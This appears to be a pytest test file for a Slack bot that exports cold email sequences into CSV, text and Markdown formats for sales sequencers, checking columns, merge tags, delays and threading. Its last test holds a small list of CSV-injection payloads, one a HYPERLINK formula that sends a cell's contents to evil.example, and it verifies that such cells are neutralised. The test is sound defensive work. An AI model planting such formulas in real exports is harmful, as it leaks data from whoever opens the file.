"""Export formats: every sequencer gets a file it imports as it is - its columns, its merge tags,
its delays, its threading - and any text a model can write survives every format."""

from __future__ import annotations

import csv
import io

import pytest

from bot.slack import constants as K
from bot.slack.blocks import Progress, parent_message, parse_export_option
from bot.writing.brief import Brief
from bot.writing.export import export_sequence, slug
from bot.writing.export_formats import (
    EXPORT_FORMATS,
    FORMATS_BY_KEY,
    GENERIC_CSV,
    Delay,
    ExportFormat,
    Layout,
)
from bot.writing.placeholders import COMPANY, FIRST_NAME, PLACEHOLDERS
from testkit.briefs import SAMPLE_BRIEF
from testkit.fakes.anthropic import sample_sequence

COMPANY_NAME = "Northwind Logistics"
CSV_FORMATS = [f for f in EXPORT_FORMATS if f.layout in (Layout.STEP_ROWS, Layout.LEAD_ROW)]
SEQUENCERS = [f for f in EXPORT_FORMATS if f.threads_followups]

# What each tool's documentation names: the columns of its file and its merge tags.
EXPECTED_COLUMNS = {
    "generic": ["step", "day", "subject_a", "subject_b", "body"],
    "instantly": ["step", "delay_days", "subject", "body", "variant_b_subject"],
    "smartlead": ["seq_number", "delay_in_days", "subject", "email_body", "variant_b_subject"],
    "lemlist": ["step", "delay_days", "subject", "body", "subject_b"],
    "apollo": ["position", "wait_time_days", "subject", "body", "touch_b_subject"],
    "hubspot": ["step", "delay_days", "subject", "body"],
    "outreach": ["step", "interval_days", "subject", "body"],
}
EXPECTED_TAGS = {
    "generic": ("{{first_name}}", "{{company}}"),
    "instantly": ("{{firstName}}", "{{companyName}}"),
    "smartlead": ("{{first_name}}", "{{company_name}}"),
    "lemlist": ("{{firstName}}", "{{companyName}}"),
    "apollo": ("{{first_name}}", "{{company}}"),
    "hubspot": ("{{contact.firstname}}", "{{contact.company}}"),
    "outreach": ("{{first_name}}", "{{account.name}}"),
    "text": ("{{first_name}}", "{{company}}"),
    "markdown": ("{{first_name}}", "{{company}}"),
}
SAMPLE_DAYS = [1, 3, 5, 8, 12, 16, 21]


def rows(content: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content, newline="")))


def columns(fmt: ExportFormat) -> dict[str, str]:
    """Which column carries which field, by field."""
    return {field: name for name, field in fmt.columns}


def test_the_menu_offers_every_tool_the_issue_names():
    assert [f.label for f in EXPORT_FORMATS] == [
        "Generic CSV",
        "Instantly",
        "Smartlead",
        "lemlist",
        "Apollo",
        "HubSpot",
        "Outreach",
        "Plain text",
        "Markdown",
    ]
    assert set(EXPECTED_TAGS) == set(FORMATS_BY_KEY)


@pytest.mark.parametrize("fmt", CSV_FORMATS, ids=lambda f: f.key)
def test_each_csv_has_its_tools_columns_and_one_row_per_email(fmt):
    exported = export_sequence(fmt, sample_sequence(), COMPANY_NAME)

    parsed = rows(exported.content)
    assert list(parsed[0]) == EXPECTED_COLUMNS[fmt.key]
    assert len(parsed) == 7
    assert [r[columns(fmt)["step"]] for r in parsed] == [str(n) for n in range(1, 8)]
    assert exported.mimetype == "text/csv"
    assert exported.content.encode("utf-8").decode("utf-8") == exported.content


@pytest.mark.parametrize("fmt", EXPORT_FORMATS, ids=lambda f: f.key)
def test_placeholders_become_the_tools_merge_tags_and_none_is_left(fmt):
    first_name, company = EXPECTED_TAGS[fmt.key]

    content = export_sequence(fmt, sample_sequence(), COMPANY_NAME).content

    assert f"Hi {first_name}," in content
    assert f"at {company}" in content
    assert FIRST_NAME not in content and COMPANY not in content
    assert "[" not in content  # the sample holds no other bracket


# What the number on each step means in each tool, as its documentation says (lesson 24),
# and what the sample's days 1, 3, 5, 8, 12, 16, 21 become.
DELAY_RULES = {
    # Our own file: the day of the sequence on every row.
    "generic": SAMPLE_DAYS,
    # "The delay configured under Step 1 determines when Step 2 is sent"; "Do not set this
    # value to 0, as it will send the next step immediately"
    # (https://help.instantly.ai/en/articles/7916860-days-to-wait-between-steps). The last
    # step has no next step and carries the smallest wait, not 0.
    "instantly": [2, 2, 3, 4, 4, 5, 1],
    # seq_delay_details.delay_in_days: "Days to wait before sending", 0 on the first email
    # (https://api.smartlead.ai/api-reference/campaigns/update-sequences).
    "smartlead": [0, 2, 2, 3, 4, 4, 5],
    # A step's delay is the days to wait before it runs; 0 on the first step
    # (https://developer.lemlist.com/api-reference/objects-definitions/step,
    # https://developer.lemlist.com/api-reference/endpoints/sequences/add-step-to-sequence).
    "lemlist": [0, 2, 2, 3, 4, 4, 5],
    # emailer_steps wait `wait_time` days after the previous step
    # (https://docs.apollo.io/reference/create-sequence).
    "apollo": [0, 2, 2, 3, 4, 4, 5],
    # The first email goes out at enrollment, then "If no reply after 3 days, send Template B"
    # (https://knowledge.hubspot.com/sequences/what-time-will-steps-execute-sequences).
    "hubspot": [0, 2, 2, 3, 4, 4, 5],
    # "Step 1 email goes out on day 1. Step 2 email is scheduled to be delivered 3 days later"
    # (https://support.outreach.io/hc/en-us/articles/205689787-Sequence-Schedule-Overview).
    "outreach": [0, 2, 2, 3, 4, 4, 5],
}


def test_every_csv_format_states_its_delay_rule():
    assert set(DELAY_RULES) == {f.key for f in CSV_FORMATS}


@pytest.mark.parametrize("fmt", CSV_FORMATS, ids=lambda f: f.key)
def test_delays_are_counted_as_each_tool_counts_them(fmt):
    parsed = rows(export_sequence(fmt, sample_sequence(), COMPANY_NAME).content)

    column = columns(fmt).get("delay") or columns(fmt)["day"]
    delays = [int(r[column]) for r in parsed]
    assert delays == DELAY_RULES[fmt.key]


@pytest.mark.parametrize("fmt", CSV_FORMATS, ids=lambda f: f.key)
def test_replaying_each_tools_delays_sends_every_email_on_its_day(fmt):
    parsed = rows(export_sequence(fmt, sample_sequence(), COMPANY_NAME).content)
    column = columns(fmt).get("delay") or columns(fmt)["day"]
    delays = [int(r[column]) for r in parsed]

    if fmt.delay is Delay.ABSOLUTE:
        days = delays
    elif fmt.delay is Delay.AFTER_PREVIOUS:  # the wait sits on the step that waits
        days = [1 + sum(delays[: n + 1]) for n in range(7)]
    else:  # Delay.BEFORE_NEXT: the wait sits on the step before it
        days = [1 + sum(delays[:n]) for n in range(7)]
    assert days == SAMPLE_DAYS


def test_instantly_never_gets_a_zero_delay_that_would_send_the_next_step_at_once():
    # https://help.instantly.ai/en/articles/7916860-days-to-wait-between-steps
    emails = sample_sequence()
    emails = [{**e, "day": d} for e, d in zip(emails, [1, 2, 3, 4, 5, 6, 7], strict=True)]

    parsed = rows(export_sequence(FORMATS_BY_KEY["instantly"], emails, COMPANY_NAME).content)

    assert [int(r["delay_days"]) for r in parsed] == [1, 1, 1, 1, 1, 1, 1]


@pytest.mark.parametrize("fmt", SEQUENCERS, ids=lambda f: f.key)
def test_follow_ups_leave_the_subject_empty_so_the_tool_replies_in_the_thread(fmt):
    parsed = rows(export_sequence(fmt, sample_sequence(), COMPANY_NAME).content)

    subject = columns(fmt)["subject_a"]
    assert parsed[0][subject] == sample_sequence()[0]["subject_a"].replace(
        COMPANY, EXPECTED_TAGS[fmt.key][1]
    )
    assert [r[subject] for r in parsed[1:]] == [""] * 6
    if fmt.ab_subjects:
        variant = columns(fmt)["subject_b"]
        assert parsed[0][variant].startswith("A question about dispatch at")
        assert [r[variant] for r in parsed[1:]] == [""] * 6


def test_hubspot_and_outreach_take_one_subject_and_the_generic_csv_keeps_both_on_every_step():
    # HubSpot sequences have no A/B subjects
    # (https://knowledge.hubspot.com/sequences/what-time-will-steps-execute-sequences); Outreach
    # tests variants inside its templates, not in a sequence file.
    for key in ("hubspot", "outreach"):
        assert not FORMATS_BY_KEY[key].ab_subjects and "subject_b" not in columns(
            FORMATS_BY_KEY[key]
        )
    outreach = rows(
        export_sequence(FORMATS_BY_KEY["outreach"], sample_sequence(), COMPANY_NAME).content
    )
    # Outreach threading is a per-step choice in the app, so every step keeps its subject.
    assert all(r["subject"] for r in outreach)

    parsed = rows(export_sequence(GENERIC_CSV, sample_sequence(), COMPANY_NAME).content)
    expected = [e["subject_b"].replace(COMPANY, "{{company}}") for e in sample_sequence()]
    assert [r["subject_b"] for r in parsed] == expected


HARD_BODY = (
    'Hi [FirstName], "quoted", a comma, a semicolon; naïve café, Zürich, 東京, emoji 🚚.\n\n'
    'A second paragraph at [Company],\r\nwith a CRLF inside and a trailing quote"\n'
)


def hard_sequence() -> list[dict]:
    emails = sample_sequence()
    emails[2] = {**emails[2], "body": HARD_BODY, "subject_a": 'Über "[Company]", fast'}
    return emails


@pytest.mark.parametrize("fmt", EXPORT_FORMATS, ids=lambda f: f.key)
def test_commas_quotes_newlines_and_non_ascii_survive_every_format(fmt):
    first_name, company = EXPECTED_TAGS[fmt.key]
    expected_body = HARD_BODY.replace(FIRST_NAME, first_name).replace(COMPANY, company)

    exported = export_sequence(fmt, hard_sequence(), COMPANY_NAME)

    expected_subject = "" if fmt.threads_followups else f'Über "{company}", fast'
    text = exported.content.encode("utf-8").decode("utf-8")  # what the upload carries
    if fmt in CSV_FORMATS:
        parsed = rows(text)
        assert len(parsed) == 7
        assert parsed[2][columns(fmt)["body"]] == expected_body
        assert parsed[2][columns(fmt)["subject_a"]] == expected_subject
    else:
        assert expected_body in text
        assert f"Subject A: {expected_subject}" in text.replace("**", "")


def test_plain_text_and_markdown_read_as_the_thread_does():
    text = export_sequence(FORMATS_BY_KEY["text"], sample_sequence(), COMPANY_NAME).content
    markdown = export_sequence(FORMATS_BY_KEY["markdown"], sample_sequence(), COMPANY_NAME)

    assert text.startswith("Cold email sequence: Northwind Logistics\n\n---\n\nEmail 1 · Day 1\n")
    assert [line for line in text.splitlines() if line.startswith("Email ")] == [
        f"Email {n} · Day {d}" for n, d in enumerate(SAMPLE_DAYS, 1)
    ]
    assert markdown.content.startswith("# Cold email sequence: Northwind Logistics\n\n## Email 1")
    assert markdown.content.count("\n## Email ") == 7
    assert markdown.filename.endswith(".md") and markdown.mimetype == "text/markdown"


@pytest.mark.parametrize("fmt", EXPORT_FORMATS, ids=lambda f: f.key)
def test_the_file_is_named_for_the_company_and_the_format(fmt):
    exported = export_sequence(fmt, sample_sequence(), "Café Nørd & Co.")

    assert exported.filename == f"coldcopy-cafe-nrd-co-{fmt.key}.{fmt.extension}"
    assert exported.title == f"Cold email sequence: Café Nørd & Co. ({fmt.label})"


def test_a_company_name_without_latin_letters_still_gives_a_file_name():
    assert slug("東京ロジスティクス") == "sequence"
    assert slug("x" * 100) == "x" * 40


def test_adding_a_sequencer_is_one_entry_even_with_the_steps_in_columns():
    per_lead = ExportFormat(
        key="per-lead",
        label="Per lead",
        extension="csv",
        mimetype="text/csv",
        merge_tags={FIRST_NAME: "{first}", COMPANY: "{org}"},
        delay=Delay.AFTER_PREVIOUS,
        threads_followups=False,
        ab_subjects=False,
        layout=Layout.LEAD_ROW,
        columns=(("subject{n}", "subject_a"), ("body{n}", "body"), ("wait{n}", "delay")),
        lead_columns=("email", "first_name"),
    )

    parsed = rows(export_sequence(per_lead, sample_sequence(), COMPANY_NAME).content)

    assert len(parsed) == 1
    header = list(parsed[0])
    assert header[:5] == ["email", "first_name", "subject1", "body1", "wait1"]
    assert header[-3:] == ["subject7", "body7", "wait7"]
    assert parsed[0]["email"] == "" and parsed[0]["wait2"] == "2"
    assert parsed[0]["body1"].startswith("Hi {first},")


def test_an_entry_that_forgets_a_placeholder_is_refused_when_it_is_written():
    with pytest.raises(ValueError, match="merge_tags must map exactly"):
        ExportFormat(
            key="broken",
            label="Broken",
            extension="csv",
            mimetype="text/csv",
            merge_tags={FIRST_NAME: "{{first}}"},
            delay=Delay.ABSOLUTE,
            threads_followups=False,
            ab_subjects=False,
            layout=Layout.STEP_ROWS,
            columns=(("body", "body"),),
        )
    assert set(PLACEHOLDERS) == {FIRST_NAME, COMPANY}


def test_a_finished_parent_message_offers_every_format_in_one_menu_within_slacks_limits():
    generation_id = "0b9f7c1e-5a2d-4c7e-9d41-3f2a6b8e1c55"
    brief = Brief.model_validate({**SAMPLE_BRIEF, "tone": "Professional"})

    message = parent_message(brief, "U1", Progress(posted=7, finished=True), generation_id)

    menu = next(e for b in message.blocks if b["type"] == "actions" for e in b["elements"])
    assert menu["type"] == "static_select" and menu["action_id"] == K.EXPORT_ACTION
    options = menu["options"]
    assert len(options) == len(EXPORT_FORMATS) <= 100
    assert all(len(o["text"]["text"]) <= 75 and len(o["value"]) <= 150 for o in options)
    assert [parse_export_option(o["value"]) for o in options] == [
        (generation_id, f.key) for f in EXPORT_FORMATS
    ]


def test_a_parent_message_still_being_written_offers_no_export():
    brief = Brief.model_validate({**SAMPLE_BRIEF, "tone": "Professional"})

    message = parent_message(brief, "U1", Progress(posted=3), "some-id")

    assert all(b["type"] != "actions" for b in message.blocks)


FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1)")


@pytest.mark.parametrize("fmt", EXPORT_FORMATS, ids=lambda f: f.key)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised_in_every_csv(fmt):
    # OWASP's CSV Injection advice: a leading =, +, -, @, tab or CR is prefixed with '.
    emails = [
        {**email, "subject_a": formula, "subject_b": formula, "body": formula}
        for email, formula in zip(sample_sequence(), FORMULAS * 2, strict=False)
    ]
    emails.append({**sample_sequence()[6], "body": "\tindented", "subject_a": "\rreturn"})

    exported = export_sequence(fmt, emails, COMPANY_NAME).content

    if fmt in CSV_FORMATS:
        cells = [cell for row in csv.reader(io.StringIO(exported, newline="")) for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
        assert f"'{FORMULAS[0]}" in cells
        assert "'-2+3" in cells  # the text itself is kept, only made inert
    else:  # plain text and Markdown are read by people, not spreadsheets: unchanged
        assert FORMULAS[0] in exported and f"'{FORMULAS[0]}" not in exported
